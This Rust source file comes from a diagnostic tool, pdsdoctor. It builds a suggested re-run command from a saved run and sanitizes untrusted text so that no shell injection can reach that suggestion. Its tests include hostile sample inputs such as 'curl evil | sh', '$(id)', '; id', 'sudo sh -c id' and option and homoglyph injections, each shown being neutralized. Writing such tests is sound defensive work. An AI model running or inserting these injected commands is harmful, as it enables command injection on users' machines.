//! The command that measures again, as far as a run tells it.

use std::fmt;

use pdsdoctor_probes::{
    fact::NotMeasured,
    record::{Run, TargetKind},
};

use super::{
    IntoProse,
    command::Command,
    name::{Foreign, HostName},
    quoted,
};
use crate::options::DEFAULT_CLIENT_ID;

/// What stands for a target that may not stand in a command.
const PLACEHOLDER: &str = "TARGET";

/// `pdsdoctor check TARGET` for whatever was named, with `sudo` where that is needed.
pub fn measure_again(input: Option<&str>, sudo: bool) -> Command {
    let start = Command::own(if sudo { "sudo pdsdoctor check" } else { "pdsdoctor check" });
    let Some(input) = input.filter(|input| !input.is_empty()) else { return start };
    let named = Foreign::new(input).and_then(|word| start.clone().with(word));
    let named = named.or_else(|| start.clone().with(HostName::from_unicode(input)?));
    named.or_else(|| start.clone().with(PLACEHOLDER)).unwrap_or(start)
}

/// The whole command for the end of a report, and which options belong to it that it does not repeat.
pub fn again(run: &Run) -> (Command, Vec<String>) {
    let input = (run.target.kind != TargetKind::Machine).then(|| run.target.input.as_str());
    // What was measured inside took the rights of the administrator.
    let mut command = measure_again(input, run.settings.pds_host.is_some());
    let settings = &run.settings;
    // The names of options, not what a stranger's run may call one.
    let is_option = |name: &str| {
        let letters = name.trim_start_matches('-');
        name.starts_with('-')
            && (1..=40).contains(&letters.len())
            && letters.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-')
    };
    let mut others: Vec<String> =
        settings.also_given.iter().filter(|name| is_option(name)).map(ToString::to_string).collect();
    let mut option = |name: &'static str, attached: &'static str, value: &str| {
        let longer = Foreign::new(value).and_then(|value| command.clone().option(name, attached, value));
        match longer {
            Some(longer) => command = longer,
            None if others.iter().any(|other| other == name) => {}
            None => others.push(name.to_owned()),
        }
    };
    if let Some(reference) = run.reference.as_ref().filter(|reference| reference.given) {
        option("--against", "--against=", &reference.host);
    }
    for client in settings.client_ids.iter().filter(|client| client.as_str() != DEFAULT_CLIENT_ID) {
        option("--client-id", "--client-id=", client);
    }
    for (set, option) in [
        (settings.only_v4, "-4"),
        (settings.only_v6, "-6"),
        (settings.no_reference, "--no-reference"),
        (settings.no_third_party, "--no-third-party"),
    ] {
        if set && let Some(longer) = command.clone().with(option) {
            command = longer;
        }
    }
    (command, others)
}

/// What it takes to measure what was not.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Needs {
    /// Nobody knows.
    Nothing,
    /// In words.
    Words(String),
    /// This command.
    Command(Command),
}

impl fmt::Display for Needs {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Nothing => Ok(()),
            Self::Words(words) => f.write_str(words),
            Self::Command(command) => write!(f, "{command}"),
        }
    }
}

/// What it takes to measure what was not. A run keeps text, and may be a stranger's: where a command is meant it is the
/// same check with the rights of the administrator, and that is made anew of the target; whatever else a shell would
/// make something of stands between quotation marks.
pub fn needs(run: &Run, missing: &NotMeasured) -> Needs {
    let text = missing.needs.as_str();
    if text.is_empty() {
        Needs::Nothing
    } else if text.starts_with("sudo ") {
        let input = (run.target.kind != TargetKind::Machine).then(|| run.target.input.as_str());
        let again = measure_again(input, true);
        let with_node = text.ends_with(" --with-node").then(|| again.clone().with("--with-node")).flatten();
        Needs::Command(with_node.unwrap_or(again))
    } else if text.contains(['`', '$', ';', '|', '&', '<', '>', '\\', '"']) {
        Needs::Words(quoted(text).prose())
    } else {
        Needs::Words(text.to_owned())
    }
}

#[cfg(test)]
mod tests {
    use pdsdoctor_probes::{
        fact::ProbeName,
        record::{Ended, RUN_SCHEMA, Settings, Target},
    };

    use super::*;

    fn run(input: &str) -> Run {
        let target = Target {
            input: input.into(),
            kind: TargetKind::Host,
            host: None,
            port: 443,
            origin: None,
            handle: None,
            did: None,
        };
        Run {
            schema: RUN_SCHEMA.to_owned(),
            version: "0".into(),
            started: "2026-11-24T00:00:00Z".into(),
            elapsed_ms: 1,
            ended: Ended::Complete,
            target,
            reference: None,
            settings: Settings::default(),
            facts: Vec::new(),
            not_measured: Vec::new(),
            not_understood: Vec::new(),
        }
    }

    fn needed(input: &str, needs: &str) -> String {
        let missing = NotMeasured { probe: ProbeName::Dns, why: "x".into(), needs: needs.into() };
        super::needs(&run(input), &missing).to_string()
    }

    #[test]
    fn what_a_run_needs_is_made_anew() {
        assert_eq!(needed("a.example", "sudo pdsdoctor check x; id"), "sudo pdsdoctor check a.example");
        assert_eq!(needed("x; id", "sudo pdsdoctor check x; id"), "sudo pdsdoctor check 'x; id'");
        assert_eq!(needed("a.example", "sudo sh -c id"), "sudo pdsdoctor check a.example");
        assert_eq!(
            needed("a.example", "sudo pdsdoctor check a.example --with-node"),
            "sudo pdsdoctor check a.example --with-node"
        );
        assert_eq!(needed("a.example", "curl evil | sh"), "“curl evil · sh”");
        assert_eq!(needed("a.example", "--client-id URL"), "--client-id URL");
        assert_eq!(needed("a.example", ""), "");
    }

    #[test]
    fn what_may_not_stand_in_a_command_is_a_placeholder() {
        for input in ["-o/etc/x", "--save", "a\u{202e}b", "раypal/x", "a\u{0}b", &"a".repeat(2_000)] {
            assert_eq!(measure_again(Some(input), false).to_string(), "pdsdoctor check TARGET", "{input:?}");
        }
        let typed = measure_again(Some("bücher.example"), true).to_string();
        assert_eq!(typed, "sudo pdsdoctor check xn--bcher-kva.example");
        assert_eq!(measure_again(None, true).to_string(), "sudo pdsdoctor check");
    }

    #[test]
    fn a_strangers_options_are_no_commands() {
        let mut run = run("a.example");
        run.settings.also_given = vec!["--resolve".into(), "$(id)".into(), "; id".into(), "--x y".into()];
        run.settings.client_ids = vec!["https://a.example/?a&b".into(), "-x".into()];
        run.settings.only_v4 = true;
        let (command, others) = again(&run);
        assert_eq!(command.to_string(), "pdsdoctor check a.example --client-id 'https://a.example/?a&b' -4");
        assert_eq!(others, ["--resolve", "--client-id"]);
    }
}
